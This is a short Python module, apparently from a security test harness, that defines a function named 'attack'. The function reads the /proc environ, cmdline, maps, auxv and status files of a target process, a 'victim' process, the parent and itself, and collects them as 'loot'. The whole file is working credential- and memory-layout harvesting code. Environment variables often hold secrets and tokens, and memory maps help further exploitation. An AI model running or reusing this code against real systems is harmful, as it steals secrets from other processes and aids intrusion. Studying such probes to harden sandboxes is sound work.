"""Read the environment, arguments and memory map of the parent, of the server and of this process through /proc."""

import os


def attack(target):
    loot = []
    for pid in [target["pid"], target["victim"], os.getppid(), "self", "thread-self"]:
        for name in ["environ", "cmdline", "maps", "auxv", "status"]:
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    loot.append(file.read(1000).decode(errors="replace"))
            except OSError:
                pass
    return loot
